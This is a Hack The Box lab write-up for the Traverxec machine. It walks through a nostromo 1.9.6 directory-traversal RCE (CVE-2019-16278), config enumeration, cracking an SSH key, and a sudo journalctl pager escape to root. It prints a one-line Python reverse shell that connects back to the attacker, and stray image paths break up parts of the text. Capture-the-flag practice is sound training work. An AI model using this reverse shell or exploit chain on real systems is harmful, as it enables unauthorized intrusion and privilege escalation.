About Hack The Box Pen-testing Labs

Hack The Box is an online platform allowing you to test your penetration testing skills and exchange ideas and methodologies with thousands of people in the security field.

Traverxec is an easy difficulty machine retiring this week. We gain initial access by exploiting Nostromo Directory traversal / RCE. Enumerating Nostromo config files, we get to know the home directory of Nostromo, which is running as a privileged user. For root, we exploit sudo privilege on journalctl


As usual, let’s start off with a Nmap scan.

Nmap scan report for
Host is up (0.15s latency).PORT STATE SERVICE VERSION
22/tcp open ssh OpenSSH 7.9p1 Debian 10+deb10u1 (protocol 2.0)
| ssh-hostkey:
| 2048 aa:99:a8:16:68:cd:41:cc:f9:6c:84:01:c7:59:09:5c (RSA)
| 256 93:dd:1a:23:ee:d7:1f:08:6b:58:47:09:73:a3:88:cc (ECDSA)
|_ 256 9d:d6:62:1e:7a:fb:8f:56:92:e6:37:f1:10:db:9b:ce (ED25519)
80/tcp open http nostromo 1.9.6
|_http-server-header: nostromo 1.9.6
|_http-title: TRAVERXEC
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

nostromo version 1.9.6 is running on the box. A quick google search shows it’s vulnerable to RCE with directory traversal.

Offensive Security’s Exploit Database Archive

nostromo 1.9.6 – Remote Code Execution. CVE-2019-16278 . remote exploit for Multiple platform

root@kali:~/htb/boxes/traverxec# python47837.py -h_____-2019-16278
_____ ___ ___ _____\ \
_____\ \_\ | | | / / | |
/ /| || / / /|/ / /___/|
/ / /____/||\ \ \ |/| |__ |___|/
| | |____|/ \ \ \ | | | \
| | _____ \| \| | | __/ __
|\ \|\ \ |\ /| |\ \ / \
| \_____\| | | \___/ | | \____\/ |
| | /____/| \ | | / | | |____/|
\|_____| || \|_____|/ \|____| | |
|____|/ |___|/
Usage: cve2019-16278.py <Target_IP> <Target_Port> <Command>

Ok, so this requires 3 parameters, IP, Port, Command.

Boom, we have code execution.

Shell as www-data

Here are contents of my reverse shell code,

root@kali:~/htb/boxes/traverxec# cat pythonshell.py
import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",1234));

Enumerating the filesystem, we find the configuration file nhttpd.conf

www-data@traverxec:/var/nostromo/conf$ cat nhtt*
cat nhtt*

servername traverxec.htb
serverlisten *
serveradmin david@traverxec.htb
serverroot /var/nostromo
servermimes conf/mimes
docroot /var/nostromo/htdocs
docindex index.html


logpid       logs/nhttpd.pid

user         www-datahtaccess      .htaccess
htpasswd      /var/nostromo/conf/.htpasswd


/icons /var/nostromo/icons


homedirs        /home
homedirs_public public_www

There are a couple of interesting things here, first is the username david and authentication file htpasswd and the homedirs . Going through the documentation to understand the conf file,

These are the lines of interest for us,

To serve the home directories of your users via HTTP, enable the homedirs option by defining the path in where the home directories are stored, normally /home.

The content of the home directory is handled exactly the same way as adirectory in your document root.

You can restrict the access within the home directories to a single subdirectory by defining it via the homedirs_public option.

protected-file-area looks interesting.

www-data@traverxec:/home/david/public_www/protected-file-area$ cat htaccess
cat .htaccessrealm David's Protected File Area. Keep out!

Contents of protected-file-area

Privesc www-data -> david

Transferring backup-ssh-identity-files.tgz onto our box, it has ssh folder of david. The private key id_rsa is encrypted. Let’s get john to work, and he delivers yet again.

Privesc david -> root

David’s home has a separate bin directory.

server-stats.sh has an interesting sudo command on journalctl .

According to gtfobins

journalctl invokes the default pager, which is likely to be less, other functions may apply.

I reduced the size of my terminal so that it invokes less

Final: One thing I liked about this box is that it didn’t require running any scripts to findsomething obscure, all it required is a careful enumeration, reading documentation, which I think is a hallmark of any top-notch box.

Credit: PreethamBomma, Security Researcher – Loginsoft